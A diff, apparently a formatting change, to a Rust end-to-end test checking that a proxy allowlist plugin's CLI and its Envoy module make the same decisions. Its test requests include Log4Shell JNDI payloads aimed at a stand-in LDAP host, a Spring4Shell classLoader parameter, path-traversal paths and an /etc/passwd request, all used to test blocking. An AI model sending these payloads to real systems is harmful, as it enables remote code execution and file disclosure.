@@ -34,7 +34,12 @@ const POLICY: &str = r#"{
 }"#;
 
 /// (method, target, host, extra headers)
-fn requests() -> Vec<(&'static str, &'static str, &'static str, Vec<(&'static str, &'static str)>)> {
+fn requests() -> Vec<(
+    &'static str,
+    &'static str,
+    &'static str,
+    Vec<(&'static str, &'static str)>,
+)> {
     vec![
         ("GET", "/public/index.html", "shop.example.com", vec![]),
         ("GET", "/public/../admin", "shop.example.com", vec![]),
@@ -49,10 +54,30 @@ fn requests() -> Vec<(&'static str, &'static str, &'static str, Vec<(&'static st
         ("POST", "/api/v2/orders", "shop.example.com", vec![]),
         ("POST", "/api/v2/orders/", "shop.example.com", vec![]),
         ("GET", "/ops/health", "shop.example.com", vec![]),
-        ("GET", "/public/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", "shop.example.com", vec![]),
-        ("GET", "/admin", "shop.example.com", vec![("user-agent", "${jndi:ldap://203.0.113.5/a}")]),
-        ("GET", "/public/x", "shop.example.com", vec![("user-agent", "${${lower:j}ndi:ldap://203.0.113.5/a}")]),
-        ("GET", "/public/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "shop.example.com", vec![]),
+        (
+            "GET",
+            "/public/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
+            "shop.example.com",
+            vec![],
+        ),
+        (
+            "GET",
+            "/admin",
+            "shop.example.com",
+            vec![("user-agent", "${jndi:ldap://203.0.113.5/a}")],
+        ),
+        (
+            "GET",
+            "/public/x",
+            "shop.example.com",
+            vec![("user-agent", "${${lower:j}ndi:ldap://203.0.113.5/a}")],
+        ),
+        (
+            "GET",
+            "/public/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "shop.example.com",
+            vec![],
+        ),
         ("GET", "/etc/passwd", "shop.example.com", vec![]),
         ("GET", "/public/..;/admin", "shop.example.com", vec![]),
         ("TRACE", "/public/x", "shop.example.com", vec![]),
@@ -71,8 +96,12 @@ fn explain_agrees_with_the_module_in_envoy() {
         .var("MESHSIGHT_CONFIG", POLICY.replace('\n', " "))
         .start()
         .unwrap_or_else(|err| panic!("the one-pass plugin must start: {err}"));
-    let policy = compile(std::path::Path::new("(e2e policy)"), POLICY.as_bytes(), None)
-        .expect("the CLI compiles the policy the module runs");
+    let policy = compile(
+        std::path::Path::new("(e2e policy)"),
+        POLICY.as_bytes(),
+        None,
+    )
+    .expect("the CLI compiles the policy the module runs");
 
     let mut expected = HashMap::new();
     let mut statuses = HashMap::new();
@@ -100,7 +129,10 @@ fn explain_agrees_with_the_module_in_envoy() {
         records.clear();
         lines.clear();
         for body in collector.bodies() {
-            for line in String::from_utf8_lossy(&body).lines().filter(|l| !l.is_empty()) {
+            for line in String::from_utf8_lossy(&body)
+                .lines()
+                .filter(|l| !l.is_empty())
+            {
                 let record: Value = serde_json::from_str(line).unwrap();
                 if let Some(uid) = record["metadata"]["uid"].as_str() {
                     records.insert(uid.to_string(), record);
@@ -120,7 +152,9 @@ fn explain_agrees_with_the_module_in_envoy() {
         let cli_status = cli.status as u16;
         // The echo upstream answers 200 to whatever reaches it.
         if module_status != cli_status {
-            mismatches.push(format!("{id}: status module {module_status}, cli {cli_status}"));
+            mismatches.push(format!(
+                "{id}: status module {module_status}, cli {cli_status}"
+            ));
         }
         let Some(record) = records.get(id) else {
             mismatches.push(format!("{id}: no audit record from the module"));
@@ -129,29 +163,52 @@ fn explain_agrees_with_the_module_in_envoy() {
         let m = &record["unmapped"]["meshsight"];
         let cli_allow = serde_json::to_value(cli.allowlist.as_ref().map(|a| &a.decision)).unwrap();
         if m["allowlist"] != cli_allow {
-            mismatches.push(format!("{id}: allowlist module {}, cli {cli_allow}", m["allowlist"]));
+            mismatches.push(format!(
+                "{id}: allowlist module {}, cli {cli_allow}",
+                m["allowlist"]
+            ));
         }
         let cli_mirror = serde_json::to_value(&cli.mirror).unwrap();
         if m["mirror"] != cli_mirror {
-            mismatches.push(format!("{id}: mirror module {}, cli {cli_mirror}", m["mirror"]));
+            mismatches.push(format!(
+                "{id}: mirror module {}, cli {cli_mirror}",
+                m["mirror"]
+            ));
         }
         if record["is_alert"] != cli.audit.record["is_alert"] {
             mismatches.push(format!("{id}: is_alert differs"));
         }
         // The module's record reads back as the same request and decisions.
         let observed = parse_line(records[id].to_string().as_bytes(), 1).unwrap();
-        assert_eq!(observed.allowlist, cli.allowlist.as_ref().map(|a| a.decision.clone()), "{id}");
+        assert_eq!(
+            observed.allowlist,
+            cli.allowlist.as_ref().map(|a| a.decision.clone()),
+            "{id}"
+        );
     }
-    assert!(mismatches.is_empty(), "CLI and module disagree:\n{}", mismatches.join("\n"));
     assert!(
-        expected.values().any(|e| e.allowlist.as_ref().is_some_and(|a| a.response_status == Some(403)))
-            && expected.values().any(|e| e.allowlist.as_ref().is_some_and(|a| a.response_status == Some(400)))
-            && expected.values().any(|e| e.mirror.as_ref().is_some_and(|m| m.mirrored)),
+        mismatches.is_empty(),
+        "CLI and module disagree:\n{}",
+        mismatches.join("\n")
+    );
+    assert!(
+        expected.values().any(|e| e
+            .allowlist
+            .as_ref()
+            .is_some_and(|a| a.response_status == Some(403)))
+            && expected.values().any(|e| e
+                .allowlist
+                .as_ref()
+                .is_some_and(|a| a.response_status == Some(400)))
+            && expected
+                .values()
+                .any(|e| e.mirror.as_ref().is_some_and(|m| m.mirrored)),
         "the set covers allowed, denied, malformed and mirrored requests"
     );
 
     // Replaying the module's own records against the same policy changes no verdict.
-    let mut reader = RecordReader::from_reader("collector", std::io::Cursor::new(lines.join("\n")), false);
+    let mut reader =
+        RecordReader::from_reader("collector", std::io::Cursor::new(lines.join("\n")), false);
     let list = policy.plugin.allowlist.as_ref().unwrap();
     let report = replay(list, &mut reader, 10).unwrap();
     assert_eq!(report.records as usize, expected.len());
